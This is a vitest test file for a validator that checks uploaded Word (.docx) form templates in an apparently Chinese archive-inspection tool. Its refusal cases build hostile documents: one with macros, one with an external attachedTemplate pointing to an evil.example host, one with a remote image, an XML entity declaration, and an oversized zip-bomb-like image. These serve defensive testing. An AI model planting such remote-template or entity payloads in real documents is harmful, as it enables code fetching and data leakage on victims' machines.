import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { loadRubric } from '../../src/adapters/setup/load-setup.js';
import { noticeTemplate, sheetTemplate } from '../../src/exports/own-templates.js';
import { scoreForm, suggestedLines } from '../../src/exports/score-form.js';
import { checkForm, writeSheet } from '../../workers/word-forms.js';
import { sample } from '../exports/sample.js';
import { readWord } from '../exports/word.js';
import { folderWith } from '../helpers/folders.js';

const own = await noticeTemplate();

/** The notice that comes with Jishen, with some parts changed or added. */
function changed(change: (parts: Record<string, Uint8Array>) => void): Uint8Array {
  const parts = unzipSync(own);
  change(parts);
  return zipSync(parts);
}
const replaced = (name: string, from: string | RegExp, to: string) =>
  changed((parts) => {
    const before = strFromU8(parts[name]!);
    const after = before.replace(from, to);
    if (after === before) throw new Error(`${name} has no ${from}`);
    parts[name] = strToU8(after);
  });

async function problemsOf(bytes: Uint8Array, use = 'notice') {
  const path = join(folderWith(), 'form.docx');
  writeFileSync(path, bytes);
  return (await checkForm({ kind: 'template', use, path })).problems;
}

const relation = (type: string, target: string) =>
  `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const RELATIONS = 'word/_rels/document.xml.rels';

describe('a form that somebody sends in', () => {
  it('is taken if it can be filled', async () => {
    expect(await problemsOf(own)).toEqual([]);
    expect(await problemsOf(await sheetTemplate(), 'score-sheet')).toEqual([]);
  });

  it('is refused with what is wrong with it, and so is a form for something else', async () => {
    expect(await problemsOf(replaced('word/document.xml', '{单位名称}', '{单位名}'))).toEqual([
      expect.stringMatching(/^不认识的标签\{单位名\}/),
    ]);
    expect(await problemsOf(await sheetTemplate())).not.toEqual([]);
  });

  it.each([
    ['nothing', new Uint8Array(), /不是 Word 文件/],
    ['a text', strToU8('整改通知'), /不是 Word 文件/],
    ['half a file', own.subarray(0, own.length / 2), /不是 Word 文件|已损坏/],
    ['another archive', zipSync({ 'a.txt': strToU8('x') }), /不是 \.docx 文件/],
    [
      'one with macros',
      changed((parts) => {
        parts['word/vbaProject.bin'] = strToU8('x');
      }),
      /宏/,
    ],
    [
      'a .docm',
      replaced('[Content_Types].xml', /wordprocessingml\.document\.main/, 'x.document.macroEnabled.main'),
      /不是 \.docx 文件/,
    ],
    [
      'one that fetches a template when it is opened',
      replaced(RELATIONS, '</Relationships>', relation('attachedTemplate', 'http://evil.example/x.dotm')),
      /引用了外部文件（http:\/\/evil\.example/,
    ],
    [
      'one that shows a picture from elsewhere',
      replaced(RELATIONS, '</Relationships>', relation('image', 'http://evil.example/x.png')),
      /引用了外部文件/,
    ],
    [
      'one with entities of its own',
      replaced('word/document.xml', /^<\?xml[^>]*\?>/, '$&<!DOCTYPE a [<!ENTITY x "y">]>'),
      /不是 Word 写的/,
    ],
    [
      'a bomb',
      changed((parts) => {
        parts['word/media/image1.png'] = new Uint8Array(20_000_000);
      }),
      /过大/,
    ],
  ])('%s is refused', async (_, bytes, problem) => {
    expect((await problemsOf(bytes)).join('；')).toMatch(problem);
  });

  it('may have links that are only followed when somebody clicks', async () => {
    expect(
      await problemsOf(
        replaced(RELATIONS, '</Relationships>', relation('hyperlink', 'https://example.gov.cn/')),
      ),
    ).toEqual([]);
  });

  it('of the score sheet is filled from what was written down', async () => {
    const form = scoreForm({
      rubric: await loadRubric(null),
      unit: '青石县档案馆',
      year: 2024,
      lines: suggestedLines(sample),
    });
    const folder = folderWith({ 'form.json': JSON.stringify(form), 'template.docx': await sheetTemplate() });
    const out = join(folder, 'out.docx');
    const template = join(folder, 'template.docx');
    await writeSheet({ kind: 'sheet', template, form: join(folder, 'form.json'), out });
    const { lines } = await readWord(readFileSync(out));
    expect(lines.join('\n')).toContain('单位名称：青石县档案馆　　报告年度：2024年');
  });
});
